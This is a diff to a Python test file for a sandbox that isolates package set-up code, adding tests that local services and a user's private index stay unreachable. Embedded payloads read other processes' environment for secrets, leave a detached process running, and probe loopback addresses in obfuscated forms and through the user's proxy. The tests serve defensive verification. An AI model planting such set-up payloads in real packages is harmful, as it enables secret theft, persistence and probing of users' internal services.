@@ -1,9 +1,11 @@
 """Packages whose set-up code is hostile, built by the real installer, level by level."""
 
+import contextlib
 import functools
 import http.server
 import json
 import os
+import socket
 import subprocess
 import threading
 from collections.abc import Iterator
@@ -18,19 +20,23 @@ from lockproof.adapters.sandbox.isolation import OFF, Isolation, Level
 from lockproof.config import EnvironmentPolicy
 from lockproof.errors import ConfigError
 
-from .door import Door
+from .door import CALL, Door
 from .test_environment import ask
 from .test_isolation import level_or_skip
 from .wheels import sdist, wheel
 
 
-class PrivateIndex:
-    """A package index of one package, for those who have the password."""
+class Index:
+    """A package index of one package."""
+
+    private = False
 
     def __init__(self, folder: Path) -> None:
+        private = self.private
+
         class Handler(http.server.SimpleHTTPRequestHandler):
             def do_GET(self) -> None:
-                if "Basic" not in self.headers.get("Authorization", ""):
+                if private and "Basic" not in self.headers.get("Authorization", ""):
                     self.send_response(401)
                     self.send_header("WWW-Authenticate", 'Basic realm="x"')
                     self.send_header("Content-Length", "0")
@@ -56,7 +62,8 @@ class PrivateIndex:
 
     def __enter__(self) -> str:
         self.thread.start()
-        return f"http://me:s3cret@127.0.0.1:{self.server.server_port}/simple"
+        user = "me:s3cret@" if self.private else ""
+        return f"http://{user}127.0.0.1:{self.server.server_port}/simple"
 
     def __exit__(self, *_error: object) -> None:
         self.server.shutdown()
@@ -64,10 +71,16 @@ class PrivateIndex:
         self.server.server_close()
 
 
+class PrivateIndex(Index):
+    """One for those who have the password."""
+
+    private = True
+
+
 pytestmark = pytest.mark.usefixtures("index")
 LEVELS = [Level.BUBBLEWRAP, Level.NAMESPACES, Level.LANDLOCK]
 
-# HOME, PATHS, PID and PLACE are filled in; what worked is told to the door.
+# CALL, HOME, PATHS, PID and PLACE are filled in; what worked is told to the door.
 ATTACK = """
 import json, os, pathlib, socket, subprocess, sys
 worked = []
@@ -93,18 +106,20 @@ for pid in (pid for pid in os.listdir("/proc") if pid.isdigit()):
     attempt("variables of " + pid, lambda: has_secret("/proc/" + pid + "/environ"))
 attempt("own variables", lambda: "s3cret" in str(os.environ))
 attempt("signal", lambda: os.kill(PID, 0) is None)
+exec(CALL)
 stay = '''
+CALL
 import os, socket, time
 os.setsid()
-with socket.create_connection(PLACE) as s:
+with call(PLACE) as s:
     s.sendall(b'"staying"' + bytes([10]))
     print("there", flush=True)
     time.sleep(3000)
-'''.replace("PLACE", repr(PLACE))
+'''.replace("CALL", CALL).replace("PLACE", repr(PLACE))
 # With a pipe of the installer's, which reads it to its end.
 left = subprocess.Popen([sys.executable, "-I", "-S", "-c", stay], stdout=subprocess.PIPE)
 left.stdout.readline()
-with socket.create_connection(PLACE) as s:
+with call(PLACE) as s:
     s.sendall(json.dumps(worked).encode() + bytes([10]))
 """
 
@@ -167,7 +182,7 @@ def attack(home: Path, pid: int, place: Door) -> tuple[str, list[Path]]:
         home.parent / "project" / "lock.txt",
         home.parent / "links" / "hostile.whl",
     ]
-    names = {"HOME": str(home), "PATHS": [*map(str, targets)], "PID": pid}
+    names = {"CALL": CALL, "HOME": str(home), "PATHS": [*map(str, targets)], "PID": pid}
     lines = [f"{name} = {value!r}" for name, value in names.items()]
     return "\n".join([*lines, f"PLACE = {place.server.getsockname()!r}", ATTACK]), targets
 
@@ -196,6 +211,140 @@ def test_set_up_code_reaches_nothing_of_the_user(
     assert "staying" in door.heard
     door.wait_until_all_left()
     assert not list((root.parent / "cache" / "envs").glob("*.build"))
+
+
+# CALL, PLACE (of the door) and PLACES are filled in; where it got an answer is told to the door.
+KNOCK = """
+import json, socket
+exec(CALL)
+reached = []
+def attempt(name, connect):
+    try:
+        with connect() as s:
+            s.settimeout(20)
+            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
+            if b"reached" in s.recv(1000):
+                reached.append(name)
+    except OSError:
+        pass
+for host, port in PLACES:
+    attempt("straight " + host, lambda: socket.create_connection((host, port), 20))
+    attempt("through " + host, lambda: call((host, port)))
+    proxy = os.environ.get("HTTP_PROXY", "").rpartition("/")[2].partition(":")
+    def asked():
+        line = socket.create_connection((proxy[0], int(proxy[2])), 20)
+        line.sendall(("GET http://%s:%d/ HTTP/1.1\\r\\n" % (host, port)).encode())
+        return line
+    if proxy[0]:
+        attempt("asked for " + host, asked)
+with call(PLACE) as s:
+    s.sendall(json.dumps(reached).encode() + bytes([10]))
+"""
+OWN_MACHINE = ("127.0.0.1", "localhost", "127.1", "2130706433", "0x7f.1", "0.0.0.0", "127.9.9.9")
+OWN_MACHINE += ("::1", "[::1]", "[::ffff:127.0.0.1]", "::ffff:127.0.0.1", "[::]", "::")
+
+
+class Reached(http.server.BaseHTTPRequestHandler):
+    """A service of the user's."""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"reached")
+
+    def log_message(self, *_args: object) -> None:
+        """Nothing."""
+
+
+@pytest.fixture
+def service() -> Iterator[int]:
+    """A port of this machine, at all its addresses."""
+    with http.server.ThreadingHTTPServer(("0.0.0.0", 0), Reached) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield server.server_port
+        server.shutdown()
+        thread.join()
+
+
+def knocking(root: Path, door: Door, port: int) -> None:
+    places = [(host, port) for host in (*OWN_MACHINE, *own_addresses())]
+    names = {"CALL": CALL, "PLACE": door.server.getsockname(), "PLACES": places}
+    code = "\n".join([*(f"{name} = {value!r}" for name, value in names.items()), KNOCK])
+    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", f"exec({code!r}, {{}})"))
+    door.open()
+
+
+def own_addresses() -> set[str]:
+    """What this machine is called by elsewhere, so far as it knows."""
+    with contextlib.suppress(OSError):
+        infos = socket.getaddrinfo(socket.gethostname(), None, type=socket.SOCK_STREAM)
+        return {str(info[4][0]) for info in infos}
+    return set()
+
+
+@pytest.mark.parametrize("level", [Level.BUBBLEWRAP, Level.NAMESPACES])
+def test_set_up_code_reaches_no_service_of_this_machine(
+    root: Path, door: Door, service: int, level: Level
+) -> None:
+    isolation = level_or_skip(level)
+    knocking(root, door, service)
+    env = made(root, isolation)
+    assert ask(env, "import gamma; print(gamma.VERSION)") == "1.0"
+    assert door.heard == [[]]
+
+
+def test_where_isolation_is_off_it_reaches_them(root: Path, door: Door, service: int) -> None:
+    """So that the test above can fail."""
+    knocking(root, door, service)
+    made(root, OFF)
+    (reached,) = door.heard
+    assert {"straight 127.0.0.1", "straight 127.1", "straight 2130706433"} <= set(reached)
+
+
+def test_a_proxy_of_the_users_is_used_and_said(
+    root: Path, door: Door, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    isolation = level_or_skip(Level.NAMESPACES)
+    monkeypatch.setenv("ALL_PROXY", "http://127.0.0.1:9")
+    (root / "lock.txt").write_text(sdist(root.parent / "links", "gamma", "pass"))
+    made(root, isolation)
+    assert "but for this machine's network, since a proxy is set" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("level", [Level.BUBBLEWRAP, Level.NAMESPACES])
+@pytest.mark.parametrize("installer", ["uv", "pip"])
+def test_an_index_that_the_user_names_is_asked_wherever_it_is(
+    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, installer: str, level: Level
+) -> None:
+    isolation = level_or_skip(level)
+    if installer == "pip":
+        monkeypatch.setattr("lockproof.adapters.environment.venvs.find_uv", lambda: None)
+    elif find_uv() is None:
+        pytest.skip("no uv")
+    archive = tmp_path / "own"
+    archive.mkdir()
+    (root / "lock.txt").write_text(sdist(archive, "gamma", "pass"))
+    with Index(archive) as url:
+        monkeypatch.setenv("PIP_NO_INDEX", "0")
+        monkeypatch.setenv("PIP_INDEX_URL", url)
+        assert ask(made(root, isolation), "import gamma; print(gamma.VERSION)") == "1.0"
+
+
+def test_an_index_of_this_machine_that_only_the_commit_names_is_not_asked_by_set_up_code(
+    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    isolation = level_or_skip(Level.NAMESPACES)
+    archive = tmp_path / "own"
+    archive.mkdir()
+    with Index(archive) as url:
+        line = sdist(archive, "gamma", "pass")
+        (root / "lock.txt").write_text(f"--index-url {url}\n{line}")
+        monkeypatch.setenv("PIP_NO_INDEX", "0")
+        with pytest.raises(ConfigError, match=r"asked for 127\.0\.0\.1:\d+, which is not"):
+            made(root, isolation)
+        monkeypatch.setenv("PIP_TRUSTED_HOST", url.split("/")[2])  # As the message says.
+        assert ask(made(root, isolation), "import gamma; print(gamma.VERSION)") == "1.0"
 
 
 def test_the_same_attack_works_where_isolation_is_off(
